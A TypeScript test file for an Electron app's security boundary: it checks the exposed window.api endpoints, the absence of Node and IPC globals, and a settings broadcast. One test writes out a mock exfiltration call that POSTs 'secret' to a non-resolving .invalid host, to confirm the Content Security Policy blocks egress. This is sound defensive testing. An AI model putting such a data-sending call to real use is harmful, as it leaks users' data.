import { endpointKinds } from '../electron/common/contract/endpoints.ts';
import { expect, test } from './fixtures.ts';

test('window.api has exactly the contract’s endpoints and nothing else', async ({ app }) => {
  const shape = await app.page.evaluate(() => {
    const api = (window as unknown as { api: Record<string, Record<string, unknown>> }).api;
    const names: string[] = [];
    for (const [namespace, group] of Object.entries(api)) {
      for (const [method, fn] of Object.entries(group)) names.push(`${namespace}.${method}:${typeof fn}`);
    }
    return { names: names.sort(), frozen: Object.isFrozen(api) };
  });
  const expected = Object.keys(endpointKinds)
    .map((name) => `${name}:function`)
    .sort();
  expect(shape.names).toEqual(expected);
});

test('the page has no Node, no require and no raw IPC', async ({ app }) => {
  const globals = await app.page.evaluate(() => ({
    require: typeof (window as unknown as { require?: unknown }).require,
    process: typeof (window as unknown as { process?: unknown }).process,
    ipcRenderer: typeof (window as unknown as { ipcRenderer?: unknown }).ipcRenderer,
    electron: typeof (window as unknown as { electron?: unknown }).electron,
  }));
  expect(globals).toEqual({ require: 'undefined', process: 'undefined', ipcRenderer: 'undefined', electron: 'undefined' });
});

test('a fetch to an outside address fails, blocked by the Content Security Policy', async ({ app }) => {
  app.allowErrors(/Content Security Policy|Failed to fetch|ERR_BLOCKED/);
  // `.invalid` never resolves (RFC 2606), so even a broken policy could not reach a real host.
  const outcome = await app.page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
    let error = '';
    try {
      await fetch('https://soberana-egress-probe.invalid/collect', { method: 'POST', body: 'secret' });
    } catch (caught) {
      error = String(caught);
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { error, violations };
  });
  expect(outcome.error).toMatch(/TypeError/);
  if (app.target === 'chromium') {
    expect(outcome.violations).toEqual(['connect-src https://soberana-egress-probe.invalid/collect']);
  }
});

test('a broadcast from the main process reaches the page', async ({ app }) => {
  const { page } = app;
  // Settings changed elsewhere (another window, or the CLI) arrive as a settings.changed event.
  await page.getByRole('navigation').getByRole('button', { name: 'Settings' }).click();
  const changed = await page.evaluate(async () => {
    const api = (window as unknown as { api: { settings: { changed(l: (p: { theme: string }) => void): () => void; update(p: object): Promise<unknown> } } })
      .api;
    const seen = new Promise<string>((resolve) => {
      const off = api.settings.changed((payload) => {
        off();
        resolve(payload.theme);
      });
    });
    await api.settings.update({ theme: 'dark' });
    return seen;
  });
  expect(changed).toBe('dark');
  await expect(page.getByRole('radio', { name: 'Dark' })).toBeChecked();
});
